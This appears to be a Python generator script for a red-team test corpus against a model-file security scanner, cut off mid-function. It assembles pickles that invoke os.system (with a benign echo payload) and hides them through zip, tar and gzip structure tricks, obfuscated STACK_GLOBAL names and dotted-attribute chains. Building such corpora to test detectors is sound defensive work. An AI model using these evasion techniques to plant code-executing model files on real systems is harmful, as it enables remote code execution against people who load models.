#!/usr/bin/env python3
"""Red-team round 3 corpus for aisec-modelscan: zip/tar structure tricks, computed STACK_GLOBAL
names, multi-pickle, and realistic benign checkpoints.

    AISEC_RT3_PY_NP2 (default /work/venv-fix/bin/python)  core + np2 sections
    AISEC_RT3_PY_NP1 (default /tmp/rt2venv/bin/python)    np1 section (pandas, lz4)
    python3 gen_redteam3.py [--section core|np2|np1]

Every malicious trick is validated with a harmless stand-in (builtins.len / builtins.str) built
by the same builder; malicious files are never loaded. Payloads are `echo aisec-redteam`.
"""
import codecs
import gzip
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
MAL = os.path.join(HERE, "malicious")
BEN = os.path.join(HERE, "benign")
ROWS = os.path.join(HERE, ".rows.jsonl")
CMD = "echo aisec-redteam"


def row(path, expected, cls, desc):
    with open(ROWS, "a") as f:
        f.write(json.dumps([path, expected, cls, desc]) + "\n")


def write(rel, data, expected, cls, desc):
    base = MAL if expected == "malicious" else BEN
    p = os.path.join(base, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    assert len(data) < 64 * 1024, (rel, len(data))
    with open(p, "wb") as f:
        f.write(data)
    row(os.path.relpath(p, HERE), expected, cls, desc)


# ---------------------------------------------------------------- tiny pickle assembler
def U(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def B(b):
    return b"B" + struct.pack("<I", len(b)) + b


def I(n):
    return b"J" + struct.pack("<i", n)


def T(*items):
    return b"(" + b"".join(items) + b"t"


def SG(mod, name):
    return U(mod) + U(name) + b"\x93"


def CALL(f, *args):
    return f + T(*args) + b"R"


def P(body, proto=4):
    return b"\x80" + bytes([proto]) + body + b"."


# stand-in: builtins.len('abc') == 3 ; payload: os.system(CMD)
REAL = ("os", "system", CMD)
STANDIN = ("builtins", "len", "abc")


def call_global(mod, name, arg, proto=4):
    if proto >= 4:
        return P(CALL(SG(mod, name), U(arg)), proto)
    return P(CALL(b"c" + mod.encode() + b"\n" + name.encode() + b"\n", U(arg)), proto)


def payload_pickle(proto=2):
    return call_global(*REAL, proto=proto)


def standin_pickle(proto=2):
    return call_global(*STANDIN, proto=proto)


def check_standin(data, n_loads=1, loader=None):
    f = io.BytesIO(data)
    v = None
    for _ in range(n_loads):
        v = pickle.load(f) if loader is None else loader(f)
    assert v == 3, v


def npy_object(body, shape=(1,)):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': %r, }" % (shape,)
    pad = 64 - ((10 + len(header) + 1) % 64)
    header = header + " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + body


# ---------------------------------------------------------------- raw zip writer
def dos():
    return 0, 0x21  # time, date


def zip_build(entries, prefix=b"", comment=b"", abs_offsets=True, eocd=True):
    """entries: dicts name, data (raw), method, + optional overrides:
    lname, lmethod, lcsize, lusize, lextra, cdextra, flags, descriptor"""
    out = bytearray(prefix)
    base = 0 if not abs_offsets else 0
    cds = []
    for e in entries:
        raw = e["data"]
        method = e.get("method", 0)
        if method == 8:
            co = zlib.compressobj(9, zlib.DEFLATED, -15)
            comp = co.compress(raw) + co.flush()
        else:
            comp = raw
        comp = e.get("comp", comp)
        crc = zlib.crc32(raw)
        name = e["name"]
        lname = e.get("lname", name)
        flags = e.get("flags", 0)
        lextra = e.get("lextra", b"")
        cdextra = e.get("cdextra", b"")
        off = len(out) - (0 if abs_offsets else len(prefix))
        lcrc, lcs, lus = (0, 0, 0) if e.get("descriptor") else (crc, len(comp), len(raw))
        lcs = e.get("lcsize", lcs)
        lus = e.get("lusize", lus)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, e.get("lmethod", method), 0, 0x21,
                           lcrc, lcs, lus, len(lname), len(lextra)) + lname + lextra + comp
        if e.get("descriptor"):
            out += struct.pack("<IIII", 0x08074B50, crc, e.get("ddcsize", len(comp)), e.get("ddusize", len(raw)))
        cds.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, method, 0, 0x21, crc,
                               len(comp), len(raw), len(name), len(cdextra), 0, 0, 0, 0, off) + name + cdextra)
    cd = b"".join(cds)
    cdoff = len(out) - (0 if abs_offsets else len(prefix))
    out += cd
    if eocd:
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(cd), cdoff, len(comment)) + comment
    return bytes(out), cdoff, cd


def torch_entries(pkl, root="archive", extra=True, pklname=None, method=0):
    es = [{"name": ("%s/%s" % (root, pklname or "data.pkl")).encode(), "data": pkl, "method": method}]
    if extra:
        es += [{"name": ("%s/byteorder" % root).encode(), "data": b"little"},
               {"name": ("%s/data/0" % root).encode(), "data": b"\0" * 16},
               {"name": ("%s/version" % root).encode(), "data": b"3\n"},
               {"name": ("%s/.data/serialization_id" % root).encode(), "data": b"1234567890123456789012345678901234567890"}]
    return es


def zip_read(data, name):
    return zipfile.ZipFile(io.BytesIO(data)).read(name)


# ================================================================ core
def section_core():
    # ---------------- ZIP structure
    # Z1: junk prefix, CD offsets relative to the zip start (zipfile adjusts via 'concat')
    for pname, prefix in [("junk", b"JUNKJUNK" * 128), ("benign_pickle", P(U("hello"), 2) + b"\0" * 500)]:
        for tag, body in [("s", standin_pickle()), ("m", payload_pickle())]:
            z, _, _ = zip_build(torch_entries(body), prefix=prefix, abs_offsets=False)
            if tag == "s":
                check_standin(zip_read(z, "archive/data.pkl"))
            else:
                write("zip_prefix_%s_relative_offsets.pt" % pname, z, "malicious", "zip-structure",
                      "%s prefix before a torch zip whose CD/local offsets are relative to the zip start (zipfile adds the prefix length)" % pname)

    # Z2: fake EOCD as the last 22 bytes, inside the real EOCD's comment; zipfile/miniz use the last one
    def fake_eocd_zip(body, mode):
        benign = P(U("benign"), 2)
        ents = torch_entries(benign)
        out = bytearray()
        name = b"archive/data.pkl"
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, zlib.crc32(body), len(body), len(body),
                           len(name), 0) + name + body
        mal_cd = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, zlib.crc32(body), len(body),
                             len(body), len(name), 0, 0, 0, 0, 0, 0) + name
        cds = []
        for e in ents:
            off = len(out)
            out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, zlib.crc32(e["data"]), len(e["data"]),
                               len(e["data"]), len(e["name"]), 0) + e["name"] + e["data"]
            cds.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, zlib.crc32(e["data"]),
                                   len(e["data"]), len(e["data"]), len(e["name"]), 0, 0, 0, 0, 0, off) + e["name"])
        cdb = b"".join(cds)
        cdoff = len(out)
        out += cdb
        mal_cd_pos = len(out) + 22
        fake = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(mal_cd), mal_cd_pos, 0)
        tail = mal_cd + fake + (b"" if mode == "end" else b"zz")
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(ents), len(ents), len(cdb), cdoff, len(tail)) + tail
        return bytes(out)
    for mode in ("end", "trailing2"):
        s = fake_eocd_zip(standin_pickle(), mode)
        zf = zipfile.ZipFile(io.BytesIO(s))
        assert zf.namelist() == ["archive/data.pkl"], zf.namelist()
        check_standin(zf.read("archive/data.pkl"))
        write("zip_fake_eocd_in_comment_%s.pt" % mode, fake_eocd_zip(payload_pickle(), mode), "malicious", "zip-structure",
              "real EOCD (benign torch zip) has a comment holding a second EOCD (%s) that points at a CD listing only the os.system data.pkl; zipfile uses the later one" % mode)

    # Z3: zip64 EOCD + locator: zipfile ignores the locator offset and reads the zip64 record right before it
    def zip64_zip(body):
        benign = P(U("benign"), 2)
        out = bytearray()
        def local(name, data):
            off = len(out)
            out.extend(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data),
                                   len(data), len(name), 0) + name + data)
            return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data),
                               len(data), len(name), 0, 0, 0, 0, 0, off) + name
        cd_ben = local(b"archive/data.pkl", benign)
        cd_mal = local(b"model/data.pkl", body)
        ben_off = len(out); out += cd_ben
        decoy_z64 = len(out)
        out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 1, 1, len(cd_ben), ben_off)
        mal_off = len(out); out += cd_mal
        out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 1, 1, len(cd_mal), mal_off)
        out += struct.pack("<IIQI", 0x07064B50, 0, decoy_z64, 1)
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(cd_ben), ben_off, 0)
        return bytes(out)
    s = zip64_zip(standin_pickle())
    zf = zipfile.ZipFile(io.BytesIO(s))
    assert zf.namelist() == ["model/data.pkl"], zf.namelist()
    check_standin(zf.read("model/data.pkl"))
    write("zip64_locator_points_to_decoy.pt", zip64_zip(payload_pickle()), "malicious", "zip-structure",
          "classic EOCD and the zip64 locator's offset both lead to a benign CD; zipfile reads the zip64 EOCD just before the locator, whose CD lists an os.system model/data.pkl")

    # Z4..: local header vs CD disagreements
    variants = {
        "local_method_stored_cd_deflate": dict(method=8, lmethod=0),
        "local_method_deflate_cd_stored": dict(method=0, lmethod=8),
        "local_csize_short": dict(method=0, lcsize=6, lusize=6),
        "local_csize_huge": dict(method=0, lcsize=0x7FFFFFF0, lusize=0x7FFFFFF0),
        "local_extra_longer_than_cd": dict(method=0, lextra=b"\xfe\xca\x08\x00" + P(b"N", 2) + b"\0\0\0\0" + b"\x80\x02N." * 6),
        "cd_extra_longer_than_local": dict(method=0, cdextra=b"\xfe\xca\x10\x00" + b"\0" * 16),
        "descriptor_wrong_sizes": dict(method=8, flags=8, descriptor=True, ddcsize=3, ddusize=3),
        "descriptor_stored_no_sig_sizes_zero": dict(method=0, flags=8, descriptor=True, ddcsize=0, ddusize=0),
        "local_name_differs_case": dict(method=0, flags=0),
    }
    for vname, kw in variants.items():
        for tag, body in [("s", standin_pickle()), ("m", payload_pickle())]:
            e = dict(name=b"archive/data.pkl", data=body, **kw)
            ents = [e] + torch_entries(b"", extra=True)[1:]
            if vname == "local_name_differs_case":
                # zipfile rejects a local name differing from CD name; use case only in CD vs other entries
                e["name"] = b"archive/DATA.PKL"
            z, _, _ = zip_build(ents)
            if tag == "s":
                zf = zipfile.ZipFile(io.BytesIO(z))
                check_standin(zf.read(e["name"].decode()))
            else:
                write("zip_%s.pt" % vname, z, "malicious", "zip-structure",
                      "torch zip whose data.pkl (os.system) has %s; zipfile follows the central directory" % vname)

    # duplicate names: zipfile (numpy, generic) -> last; miniz (torch) -> first
    for order in ("benign_first", "malicious_first"):
        for tag, body in [("s", standin_pickle()), ("m", payload_pickle())]:
            ben = {"name": b"archive/data.pkl", "data": P(U("benign"), 2)}
            mal = {"name": b"archive/data.pkl", "data": body}
            pair = [ben, mal] if order == "benign_first" else [mal, ben]
            z, _, _ = zip_build(pair + torch_entries(b"")[1:])
            if tag == "s":
                zf = zipfile.ZipFile(io.BytesIO(z))
                infos = [i for i in zf.infolist() if i.filename == "archive/data.pkl"]
                target = infos[1] if order == "benign_first" else infos[0]
                check_standin(zf.read(target))
            else:
                write("zip_duplicate_data_pkl_%s.pt" % order, z, "malicious", "zip-structure",
                      "two archive/data.pkl entries (%s): zipfile name lookup takes the last, torch's miniz reader the first" % order)

    # NUL in name -> zipfile truncates; trailing slash -> is_dir but still readable
    import numpy as np  # available in np2 python; core runs there
    for tag, (m, n, a) in [("s", STANDIN), ("m", REAL)]:
        body = npy_object(P(b"(" + CALL(SG(m, n), U(a)) + b"l", 2).replace(b"\x93", b"\x93"))
        # object array of 1 element: pickle must yield a list/ndarray; numpy wraps via pickle.load
        body = npy_object(P(b"]" + b"(" + CALL(SG(m, n), U(a)) + b"e", 4))
        z, _, _ = zip_build([{"name": b"arr_0.npy\x00.txt", "lname": b"arr_0.npy\x00.txt", "data": body, "method": 8}])
        if tag == "s":
            with np.load(io.BytesIO(z), allow_pickle=True) as f:
                assert list(f.keys()) == ["arr_0"], list(f.keys())
                v = f["arr_0"]
                assert list(v) == [3], v
        else:
            write("npz_member_name_nul_txt.npz", z, "malicious", "zip-structure",
                  "npz member named 'arr_0.npy\\0.txt' (zipfile cuts at NUL -> arr_0.npy); object .npy whose pickle calls os.system")
    for tag, body in [("s", standin_pickle()), ("m", payload_pickle())]:
        z, _, _ = zip_build([{"name": b"model.pkl/", "data": body, "method": 8}])
        if tag == "s":
            zf = zipfile.ZipFile(io.BytesIO(z))
            assert zf.infolist()[0].is_dir()
            check_standin(zf.read("model.pkl/"))
        else:
            write("zip_member_trailing_slash.zip", z, "malicious", "zip-structure",
                  "member 'model.pkl/' looks like a directory (is_dir) but holds 40 bytes: an os.system pickle (zf.read works)")
        z, _, _ = zip_build(torch_entries(body, pklname="DATA.PKL"))
        if tag == "s":
            check_standin(zip_read(z, "archive/DATA.PKL"))
        else:
            write("torch_zip_data_pkl_upper.pt", z, "malicious", "zip-structure",
                  "torch zip with archive/DATA.PKL (miniz locate_file without CASE_SENSITIVE flag matches data.pkl); os.system")
        # byteorder big + serialization id garbage + deflated data.pkl
        ents = torch_entries(body, method=8)
        ents[1]["data"] = b"big"
        ents[4]["data"] = b"\x80\x02N." + b"x" * 30
        z, _, _ = zip_build(ents)
        if tag == "s":
            check_standin(zip_read(z, "archive/data.pkl"))
        else:
            write("torch_zip_byteorder_big_serial_pickle_deflated.pt", z, "malicious", "zip-structure",
                  "torch zip: byteorder 'big', .data/serialization_id is a benign pickle, data.pkl deflated (method 8) os.system")
        # deflate stream: stored non-final block (benign-looking) + fixed block final: whole is one pickle
        raw = body
        blk1 = raw[:2]
        co = zlib.compressobj(9, zlib.DEFLATED, -15)
        rest = co.compress(raw[2:]) + co.flush()
        stored = b"\x00" + struct.pack("<HH", len(blk1), len(blk1) ^ 0xFFFF) + blk1
        # stored block is byte aligned; following block starts at a byte boundary
        comp = stored + rest
        assert zlib.decompress(comp, -15) == raw
        z, _, _ = zip_build([{"name": b"archive/data.pkl", "data": raw, "method": 8, "comp": comp}] + torch_entries(b"")[1:])
        if tag == "s":
            check_standin(zip_read(z, "archive/data.pkl"))
        else:
            write("zip_deflate_stored_then_fixed_blocks.pt", z, "malicious", "zip-structure",
                  "data.pkl deflate stream: non-final stored block with the PROTO bytes, then a compressed block with the os.system body")

    # ---------------- TAR
    def tar_gnu_sparse_old(body, hole_at):
        # split the pickle at hole_at: bytes [0:hole_at] data, then a hole of zeros is NOT allowed in the pickle,
        # so we put the hole inside a BINBYTES argument: build a pickle with a 600-byte zero string
        head = body[:hole_at]
        tail = body[hole_at:]
        return head, tail
    for tag, (m, n, a) in [("s", STANDIN), ("m", REAL)]:
        zeros = 1024
        pre = b"\x80\x02" + b"B" + struct.pack("<I", zeros)
        post = b"0" + CALL(b"c" + m.encode() + b"\n" + n.encode() + b"\n", U(a)) + b"."
        real = pre + b"\0" * zeros + post
        assert pickle.loads(real) == 3 if tag == "s" else True
        # GNU old sparse: map (0,len(pre)) (len(pre)+zeros, len(post)), realsize
        stored = pre + post
        hdr = bytearray(512)
        def put(off, val, ln):
            hdr[off:off + len(val)] = val
        put(0, b"model.pkl", 100)
        put(100, b"0000644\0", 8); put(108, b"0000000\0", 8); put(116, b"0000000\0", 8)
        put(124, ("%011o\0" % len(stored)).encode(), 12)
        put(136, b"00000000000\0", 12)
        hdr[156] = ord("S")
        put(257, b"ustar  \0", 8)
        sp = [(0, len(pre)), (len(pre) + zeros, len(post))]
        pos = 386
        for o, nb in sp:
            put(pos, ("%011o\0" % o).encode(), 12); put(pos + 12, ("%011o\0" % nb).encode(), 12); pos += 24
        hdr[482] = 0
        put(483, ("%011o\0" % len(real)).encode(), 12)
        hdr[148:156] = b" " * 8
        put(148, ("%06o\0 " % sum(hdr)).encode(), 8)
        data = bytes(hdr) + stored + b"\0" * (-len(stored) % 512) + b"\0" * 1024
        if tag == "s":
            tf = tarfile.open(fileobj=io.BytesIO(data))
            mem = tf.getmember("model.pkl")
            assert mem.issparse()
            check_standin(tf.extractfile(mem).read())
        else:
            write("tar_gnu_sparse_hole_in_pickle.tar", data, "malicious", "tar-structure",
                  "old GNU sparse ('S') member: the stored bytes omit a 1 KiB hole inside a BINBYTES arg; tarfile re-inserts it, raw bytes misparse")
        # GNU sparse 1.0 (PAX): data area starts with a decimal sparse map
        smap = b"1\n0\n%d\n" % len(real)
        smap = smap + b"\0" * (-len(smap) % 512)
        payload = smap + real
        ti = tarfile.TarInfo("GNUSparseFile.0/model.pkl")
        ti.size = len(payload)
        ti.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "model.pkl",
                          "GNU.sparse.realsize": str(len(real))}
        bio = io.BytesIO()
        with tarfile.open(fileobj=bio, mode="w", format=tarfile.PAX_FORMAT) as tf:
            tf.addfile(ti, io.BytesIO(payload))
        data = bio.getvalue()
        if tag == "s":
            tf = tarfile.open(fileobj=io.BytesIO(data))
            mem = tf.getmembers()[0]
            assert mem.name == "model.pkl" and mem.issparse(), (mem.name,)
            check_standin(tf.extractfile(mem).read())
        else:
            write("tar_pax_gnu_sparse_1_0.tar", data, "malicious", "tar-structure",
                  "PAX GNU.sparse 1.0 member: data area begins with a text sparse map block, then the os.system pickle")
        # hard link: model.pkl is a hardlink to a member whose name gives no hint
        bio = io.BytesIO()
        body = call_global(m, n, a, 2)
        with tarfile.open(fileobj=bio, mode="w", format=tarfile.GNU_FORMAT) as tf:
            ti = tarfile.TarInfo("LICENSE"); ti.size = len(body); tf.addfile(ti, io.BytesIO(body))
            ti = tarfile.TarInfo("model.pkl"); ti.type = tarfile.LNKTYPE; ti.linkname = "LICENSE"; tf.addfile(ti)
        data = bio.getvalue()
        if tag == "s":
            tf = tarfile.open(fileobj=io.BytesIO(data))
            check_standin(tf.extractfile("model.pkl").read())
        else:
            write("tar_hardlink_model_pkl.tar", data, "malicious", "tar-structure",
                  "model.pkl is a hard link to member 'LICENSE' holding an os.system pickle")
        # gzip FEXTRA holding a benign-looking pickle + FCOMMENT, member 2 is empty
        gz = gzip.compress(body, mtime=0)
        extra = b"AI" + struct.pack("<H", 4) + b"\x80\x02N."
        comment = b"\x80\x02N.\0"
        hdr = bytes([0x1F, 0x8B, 8, 0x04 | 0x10]) + gz[4:10] + struct.pack("<H", len(extra)) + extra + comment
        data = hdr + gz[10:] + gzip.compress(b"", mtime=0)
        if tag == "s":
            check_standin(gzip.decompress(data))
        else:
            write("gzip_fextra_fcomment_pickles.pkl.gz", data, "malicious", "gzip",
                  "gzip whose FEXTRA and FCOMMENT fields hold benign pickles, then an os.system pickle body and an empty member")

    # ================================================================ pickle level
    # multi-pickle with bogus first pickle
    firsts = {
        "none_p0": b"N.",
        "p0_list": b"(lp0\n.",
        "frame_p5": b"\x80\x05\x95\x07\x00\x00\x00\x00\x00\x00\x00" + U("xx")[:0] + b"K\x01\x85\x94.",
        "big_binbytes": P(B(b"\x80\x02cos\nsystem\n" * 2500), 4),
    }
    for fname, first in firsts.items():
        if fname == "frame_p5":
            first = b"\x80\x05\x95" + struct.pack("<Q", 4) + b"K\x01\x85." 
        pickle.loads(first)
        for secname, proto in [("p0_no_proto", 0), ("p2", 2)]:
            for tag, (m, n, a) in [("s", STANDIN), ("m", REAL)]:
                if proto == 0:
                    sec = b"c" + m.encode() + b"\n" + n.encode() + b"\n(V" + a.encode() + b"\ntR."
                else:
                    sec = call_global(m, n, a, 2)
                data = first + sec
                if tag == "s":
                    check_standin(data, n_loads=2)
                else:
                    write("multi_%s_then_%s.pkl" % (fname, secname), data, "malicious", "pickle-multi",
                          "first pickle (%s) is harmless; a second pickle.load on the same file reads a %s os.system pickle" % (fname, secname))

    # computed STACK_GLOBAL names
    def comp(kind, s):
        """pickle fragment that evaluates to the str s at load time"""
        if kind == "rot13":
            return CALL(SG("_codecs", "encode"), U(codecs.encode(s, "rot13")), U("rot13"))
        if kind == "codecs_rot_13":
            return CALL(SG("codecs", "decode"), U(codecs.encode(s, "rot13")), U("rot_13"))
        if kind == "unicode_escape":
            return CALL(SG("codecs", "decode"), B("".join("\\x%02x" % ord(c) for c in s).encode()), U("unicode_escape"))
        if kind == "punycode":
            return CALL(SG("_codecs", "decode"), B(s.encode("punycode")), U("punycode"))
        if kind == "idna":
            return CALL(SG("codecs", "decode"), B(s.encode()), U("idna"))
        if kind == "getitem_tuple":
            return CALL(SG("_operator", "getitem"), T(U("decoy"), U(s)), I(1))
        if kind == "getitem_slice":
            return CALL(SG("operator", "getitem"), U("zz" + s + "zz"), CALL(SG("builtins", "slice"), I(2), I(2 + len(s))))
        if kind == "str_format":
            return CALL(SG("builtins", "str.format"), U("{}" + s[1:]), U(s[0]))
        if kind == "operator_mod":
            return CALL(SG("operator", "mod"), U("%s" + s[1:]), U(s[0]))
        if kind == "reversed_join":
            return CALL(SG("builtins", "str.join"), U(""), CALL(SG("builtins", "reversed"), U(s[::-1])))
        if kind == "bytes_decode":
            return CALL(SG("builtins", "bytes.decode"), B(s.encode()))
        if kind == "str_lower":
            return CALL(SG("builtins", "str.lower"), U(s.upper()))
        if kind == "operator_add":
            return CALL(SG("operator", "add"), U(s[:1]), U(s[1:]))
        if kind == "max_list":
            return CALL(SG("builtins", "max"), b"](" + U(s) + U("") + b"e")
        if kind == "dict_get":
            return CALL(SG("builtins", "dict.get"), b"}" + U("k") + U(s) + b"s", U("k"))
        raise KeyError(kind)
    kinds = ["rot13", "codecs_rot_13", "unicode_escape", "punycode", "idna", "getitem_tuple", "getitem_slice",
             "str_format", "operator_mod", "reversed_join", "bytes_decode", "str_lower", "operator_add", "max_list", "dict_get"]
    for k in kinds:
        for tag, (m, n, a) in [("s", STANDIN), ("m", REAL)]:
            data = P(CALL(comp(k, m) + comp(k, n) + b"\x93", U(a)), 4)
            if tag == "s":
                check_standin(data)
            else:
                write("stack_global_names_%s.pkl" % k, data, "malicious", "pickle-computed-global",
                      "STACK_GLOBAL whose module/name strings are computed at load time via %s -> os.system" % k)

    # dotted names with protocol 4 (find_class uses _getattribute); PROTO switched mid-stream
    dotted = [
        ("global_p4_logging_os_system", lambda mod, name, arg: b"\x80\x04c" + mod + b"\n" + name + b"\n" + T(U(arg)) + b"R.",
         (b"logging", b"os.system"), (b"pickle", b"codecs.encode")),
        ("inst_p4_logging_os_system", lambda mod, name, arg: b"\x80\x04(" + U(arg) + b"i" + mod + b"\n" + name + b"\n.",
         (b"logging", b"os.system"), (b"pickle", b"codecs.encode")),
        ("proto_switch_midstream_global", lambda mod, name, arg: b"\x80\x02N0\x80\x04c" + mod + b"\n" + name + b"\n" + T(U(arg)) + b"R.",
         (b"logging", b"os.system"), (b"pickle", b"codecs.encode")),
        ("stack_global_dotted_shutil_os", lambda mod, name, arg: b"\x80\x04" + CALL(U(mod.decode()) + U(name.decode()) + b"\x93", U(arg)) + b".",
         (b"shutil", b"os.system"), (b"pickle", b"codecs.encode")),
        ("global_p4_os_path_os_system", lambda mod, name, arg: b"\x80\x04c" + mod + b"\n" + name + b"\n" + T(U(arg)) + b"R.",
         (b"os.path", b"os.system"), (b"pickle", b"codecs.encode")),
    ]
    for fname, build, real, stand in dotted:
        s = build(stand[0], stand[1], "abc")
        assert pickle.loads(s) == b"abc", pickle.loads(s)
        write("%s.pkl" % fname, build(real[0], real[1], CMD), "malicious", "pickle-dotted",
              "%s.%s resolved by protocol>=4 dotted lookup -> os.system" % (real[0].decode(), real[1].decode()))
    # \r\n GLOBAL line: check CPython behaviour (expect: module 'os\r' fails to import -> not a threat)
    try:
        pickle.loads(b"cbuiltins\r\nlen\r\n(Vabc\ntR.")
        crlf_works = True
    except Exception:
        crlf_works = False
    print("CRLF GLOBAL works in CPython:", crlf_works)

    # long memo chains (proto 4, MEMOIZE + LONG_BINGET), payload after many harmless opcodes
    def memo_chain(m, n, a, steps):
        out = bytearray(b"\x80\x04" + U(m) + b"\x94" + b"0")  # memo 0 = m
        idx = 0
        for _ in range(steps):
            out += b"j" + struct.pack("<I", idx) + b"\x94" + b"0"
            idx += 1
        out += U(n) + b"\x94" + b"0"
        nidx = idx + 1
        out += b"j" + struct.pack("<I", idx) + b"j" + struct.pack("<I", nidx) + b"\x93" + T(U(a)) + b"R."
        return bytes(out)
    for tag, (m, n, a) in [("s", STANDIN), ("m", REAL)]:
        d = memo_chain(m, n, a, 8000)
        if tag == "s":
            check_standin(d)
        else:
            write("memo_chain_8000.pkl", d, "malicious", "pickle-long",
                  "module string copied through 8000 MEMOIZE/LONG_BINGET hops before STACK_GLOBAL os.system")
        d = memo_chain(m, n, a, 25000)
        g = gzip.compress(d, mtime=0)
        if tag == "s":
            check_standin(gzip.decompress(g))
        else:
            write("memo_chain_25k.pkl.gz", g, "malicious", "pickle-long",
                  "gzip'd pickle (175 KB inflated): 25k memo hops, then STACK_GLOBAL os.system")
        filler = b"N0" * 30000
        d = b"\x80\x02" + filler + call_global(m, n, a, 2)[2:]
        if tag == "s":
            check_standin(d)
        else:
            write("after_30k_none_pop.pkl", d, "malicious", "pickle-long", "30k NONE/POP pairs then os.system")
        filler = b"N0" * 600000
        d = b"\x80\x02" + filler + call_global(m, n, a, 2)[2:]
        g = gzip.compress(d, mtime=0)
        if tag == "s":
            check_standin(gzip.decompress(g))
        else:
            write("after_600k_none_pop.pkl.gz", g, "malicious", "pickle-long", "gzip'd: 600k NONE/POP pairs (1.2 MB) then os.system")
        d = b"\x80\x02]" + (b"(" + b"K\x01" * 1000 + b"e") * 400 + b"0" + call_global(m, n, a, 2)[2:]
        g = zlib.compress(d, 9)
        job = b"ZF0x" + struct.pack(">I", 0)  # placeholder; use real joblib zlib framing below
        if tag == "m":
            import joblib  # noqa
        zdata = b"ZF" + b"0x" + ("%x" % len(d)).encode() + b"\n" + zlib.compress(d, 3)
        # joblib's old ZF format is obsolete; use joblib 'zlib' compressor magic (raw zlib stream)
        zdata = zlib.compress(d, 3)
        if tag == "s":
            import joblib
            bio = io.BytesIO(zdata)
            v = joblib.load(bio)
            assert v == 3, v
        else:
            write("joblib_zlib_400k_appends_then_payload.joblib", zdata, "malicious", "pickle-long",
                  "joblib zlib-compressed pickle: a list grown by 400k APPENDS items, popped, then os.system")


def section_core2():
    import os as _os
    # ---- dotted attribute chains through module imports (protocol 4 find_class walks dots)
    chains = [("random", "_os.system"), ("tempfile", "_os.system"), ("pathlib", "os.system"),
              ("importlib", "_bootstrap_external._os.system"), ("numpy", "lib.format.os.system"),
              ("numpy", "lib._datasource.os.system"), ("joblib", "numpy_pickle.os.system"),
              ("joblib", "_memmapping_reducer.os.system"), ("sklearn.utils._testing", "os.system"),
              ("numpy", "testing._private.utils.os.system")]
    for m, n in chains:
        found = pickle.loads(b"\x80\x04c" + m.encode() + b"\n" + n.encode() + b"\n.")  # find_class only, no call
        assert found is _os.system, (m, n)
        d = b"\x80\x04" + CALL(SG(m, n), U(CMD)) + b"."
        write("dotted_chain_%s_%s.pkl" % (m.replace(".", "_"), n.replace(".", "_")), d, "malicious", "pickle-dotted",
              "STACK_GLOBAL %r %r: protocol-4 dotted lookup walks module imports to os.system" % (m, n))
    import builtins
    for m, n in [("codecs", "builtins.eval"), ("pickle", "codecs.builtins.eval"), ("numpy", "lib.format.os.sys.modules")]:
        try:
            found = pickle.loads(b"\x80\x04c" + m.encode() + b"\n" + n.encode() + b"\n.")
        except Exception as e:
            print("chain fails", m, n, e)
            continue
        if found is builtins.eval:
            d = b"\x80\x04" + CALL(SG(m, n), U("'aisec-redteam'")) + b"."
            assert pickle.loads(b"\x80\x04" + CALL(SG(m, n), U("len('abc')")) + b".") == 3
            write("dotted_chain_%s_%s.pkl" % (m, n.replace(".", "_")), d, "malicious", "pickle-dotted",
                  "STACK_GLOBAL %r %r resolves to builtins.eval; eval(\"'aisec-redteam'\")" % (m, n))

    # ---- memo slot overwritten: decoy string first, real module later in same slot
    for tag, (m, n, a) in [("s", STANDIN), ("m", REAL)]:
        d = (b"\x80\x04" + U("collections") + b"r" + struct.pack("<I", 7) + b"0" + U("OrderedDict") + b"r" + struct.pack("<I", 8) + b"0"
             + b"j" + struct.pack("<I", 7) + b"j" + struct.pack("<I", 8) + b"\x93)R0"
             + U(m) + b"r" + struct.pack("<I", 7) + b"0" + U(n) + b"r" + struct.pack("<I", 8) + b"0"
             + b"j" + struct.pack("<I", 7) + b"j" + struct.pack("<I", 8) + b"\x93" + T(U(a)) + b"R.")
        if tag == "s":
            check_standin(d)
        else:
            write("memo_slot_overwritten.pkl", d, "malicious", "pickle-memo",
                  "LONG_BINPUT 7/8 first hold 'collections'/'OrderedDict', are overwritten with 'os'/'system', then reused")

    # ---- zip: local header says encrypted (CD does not); CD external attrs say directory
    for tag, body in [("s", standin_pickle()), ("m", payload_pickle())]:
        z, _, _ = zip_build([{"name": b"archive/data.pkl", "data": body}] + torch_entries(b"")[1:])
        zb = bytearray(z)
        zb[6] |= 1  # local GP flag bit 0 (encrypted) of first entry
        z1 = bytes(zb)
        if tag == "s":
            check_standin(zip_read(z1, "archive/data.pkl"))
        else:
            write("zip_local_flag_encrypted_only.pt", z1, "malicious", "zip-structure",
                  "local header GP flag says encrypted, CD does not; zipfile trusts the CD flag and reads the os.system data.pkl")
        zb = bytearray(z)
        cdp = zb.index(b"PK\x01\x02")
        zb[cdp + 38:cdp + 42] = struct.pack("<I", 0x10 | (0o40755 << 16))
        zb[cdp + 5] = 3  # made by unix
        z2 = bytes(zb)
        if tag == "s":
